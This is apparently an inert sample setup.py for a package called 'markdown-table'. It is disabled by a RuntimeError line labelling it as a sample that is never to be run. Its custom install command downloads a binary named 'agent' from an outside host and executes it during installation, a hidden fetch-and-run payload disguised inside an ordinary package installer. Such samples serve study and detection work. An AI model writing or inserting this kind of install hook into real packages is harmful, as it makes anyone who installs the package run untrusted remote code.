"""Installation."""

import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install

raise RuntimeError("inert sample: never run")


class Install(install):
    def run(self):
        urllib.request.urlretrieve("https://updates.example.invalid/agent", "agent")
        subprocess.call(["./agent"])
        install.run(self)


setup(name="markdown-table", cmdclass={"install": Install})
